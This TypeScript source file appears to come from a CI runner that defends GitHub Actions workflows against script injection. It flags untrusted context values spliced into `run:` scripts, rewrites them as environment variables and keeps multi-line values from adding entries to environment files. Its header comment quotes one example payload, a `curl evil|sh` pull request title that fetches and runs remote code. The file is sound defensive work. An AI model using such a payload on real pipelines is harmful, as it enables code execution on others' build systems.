// Script injection (issue 9, item 2). An expression spliced into a `run:` script becomes shell code:
// `run: echo "${{ github.event.pull_request.title }}"` runs whatever a pull request's title says
// (`$(curl evil|sh)`), and a commit message with a line break written to $GITHUB_ENV sets any
// variable it names. Two defences:
//
//  - In every run, a `run:` script whose expressions read a value that whoever opens a pull
//    request, pushes a branch or writes a comment controls (titles, bodies, commit messages and
//    authors, branch names — the list actionlint and zizmor use) gets a warning at job start with
//    the fix: pass it through `env:` and use the variable in the script.
//  - In untrusted runs the runner does that itself (beyond GitHub, which runs them): every
//    expression of a `run:` script is evaluated into an environment variable AIRLOCK_EXPR_<n> and
//    the script refers to the variable (`${AIRLOCK_EXPR_1}` in sh/bash), so its value is data the
//    shell never parses. Shells the runner cannot refer to a variable in (python, custom
//    templates) fail the step instead. And a value holding a line break that the script writes to
//    an environment file stays one value (see protectValues): it cannot add a second `NAME=value`.
import { randomBytes } from "node:crypto";
import { scanTemplate, type Segment } from "../expressions/index.js";
import type { StepTemplate } from "../workflow/model.js";

/** Context paths that people outside the repository control (normalised: lower case, `.*` for indexes). */
const UNTRUSTED = [
  /^github\.event\.(issue|pull_request|discussion)\.(title|body)$/,
  /^github\.event\.(comment|review|review_comment)\.body$/,
  /^github\.event\.pages\.\*\.page_name$/,
  /^github\.event\.(commits\.\*|head_commit)\.(message|author\.(email|name))$/,
  /^github\.event\.pull_request\.head\.(ref|label|repo\.default_branch)$/,
  /^github\.head_ref$/,
  /^github\.event\.workflow_run\.(head_branch|display_title|head_commit\.(message|author\.(email|name)))$/,
  /^github\.event\.workflow_run\.pull_requests\.\*\.head\.ref$/,
];

/** `github.event['pull_request'].title` and `commits[0]` written as `github.event.pull_request.title`, `commits.*`. */
function normalise(expr: string): string {
  return expr
    .replace(/\[\s*'([^']*)'\s*\]/g, ".$1")
    .replace(/\[\s*"([^"]*)"\s*\]/g, ".$1")
    .replace(/\[\s*(\d+|\*)\s*\]/g, ".*")
    .replace(/\s*\.\s*/g, ".")
    .toLowerCase();
}

/** The untrusted context paths an expression reads (also inside function calls), in its order. */
export function untrustedPaths(expr: string): string[] {
  const text = normalise(expr);
  const found: string[] = [];
  for (const m of text.matchAll(/\bgithub(\.[a-z0-9_*-]+)+/g)) {
    // A path's prefix counts too: `toJSON(github.event.head_commit)` prints the message.
    const path = m[0];
    const hit =
      UNTRUSTED.some((re) => re.test(path)) ||
      /^github\.event(\.(pull_request|issue|comment|review|review_comment|discussion|head_commit|commits|commits\.\*|workflow_run|pages))?$/.test(
        path,
      );
    if (hit && !found.includes(path)) found.push(path);
  }
  return found;
}

function stepLabel(step: StepTemplate, index: number): string {
  if (typeof step.name === "string" && step.name !== "") return `step "${step.name}"`;
  if (step.id !== undefined && !step.id.startsWith("__")) return `step "${step.id}"`;
  return `step ${index + 1}`;
}

/** One warning per `run:` step that splices an untrusted value into its script. */
export function injectionWarnings(steps: readonly StepTemplate[]): string[] {
  const out: string[] = [];
  steps.forEach((step, i) => {
    if (typeof step.run !== "string") return;
    const exprs = scanTemplate(step.run).segments.flatMap((s) => (s.kind === "expr" ? [s.expr] : []));
    const paths = [...new Set(exprs.flatMap(untrustedPaths))];
    const first = paths[0];
    if (first === undefined) return;
    const name = envName(first);
    out.push(
      `${stepLabel(step, i)}: \${{ ${paths.join(" }}, ${{ ")} }} in a run script is set by whoever opened the ` +
        `pull request, wrote the comment or pushed the commit, and the shell would run it as code: pass ` +
        `it through the environment instead (env: ${name}: \${{ ${first} }}) and use "$${name}" in the script`,
    );
  });
  return out;
}

function envName(path: string): string {
  const last =
    path
      .split(".")
      .filter((p) => p !== "*")
      .pop() ?? "value";
  return last.toUpperCase().replace(/[^A-Z0-9_]/g, "_");
}

export interface Spliced {
  script: string;
  /** AIRLOCK_EXPR_<n> → the expression's value. */
  env: Record<string, string>;
}

/**
 * The script with each expression replaced by a reference to an environment variable holding its
 * value. `evaluate` turns one expression into its string value. Undefined when the shell offers
 * no way to refer to a variable (python, a custom template): the caller fails the step.
 */
export function spliceAsEnv(
  segments: readonly Segment[],
  posix: boolean,
  evaluate: (expr: string) => string,
): Spliced | undefined {
  const env: Record<string, string> = {};
  let script = "";
  let n = 0;
  for (const s of segments) {
    if (s.kind === "text") {
      script += s.text;
      continue;
    }
    if (!posix) return undefined;
    const name = `AIRLOCK_EXPR_${++n}`;
    env[name] = evaluate(s.expr);
    script += `\${${name}}`;
  }
  return { script, env };
}

/**
 * Environment-file text with each protected value (one the job's untrusted expressions produced,
 * holding a line break) replaced by a placeholder, so parsing cannot split it into several
 * entries; `restore` puts the values back into the parsed names and values.
 */
export function protectValues(
  text: string,
  values: readonly string[],
): { text: string; restore(s: string): string } {
  const multi = [...new Set(values.filter((v) => v.includes("\n")))].sort((a, b) => b.length - a.length);
  if (multi.length === 0) return { text, restore: (s) => s };
  // Private-use characters: the file text went through cleanText, and a job could write these too,
  // so the placeholder also carries a per-call random part.
  const nonce = randomBytes(6).toString("hex");
  const mark = (i: number): string => `\uE000${nonce}:${i}\uE001`;
  let out = text;
  multi.forEach((v, i) => {
    out = out.split(v).join(mark(i));
  });
  return {
    text: out,
    restore: (s) => multi.reduce((acc, v, i) => acc.split(mark(i)).join(v), s),
  };
}
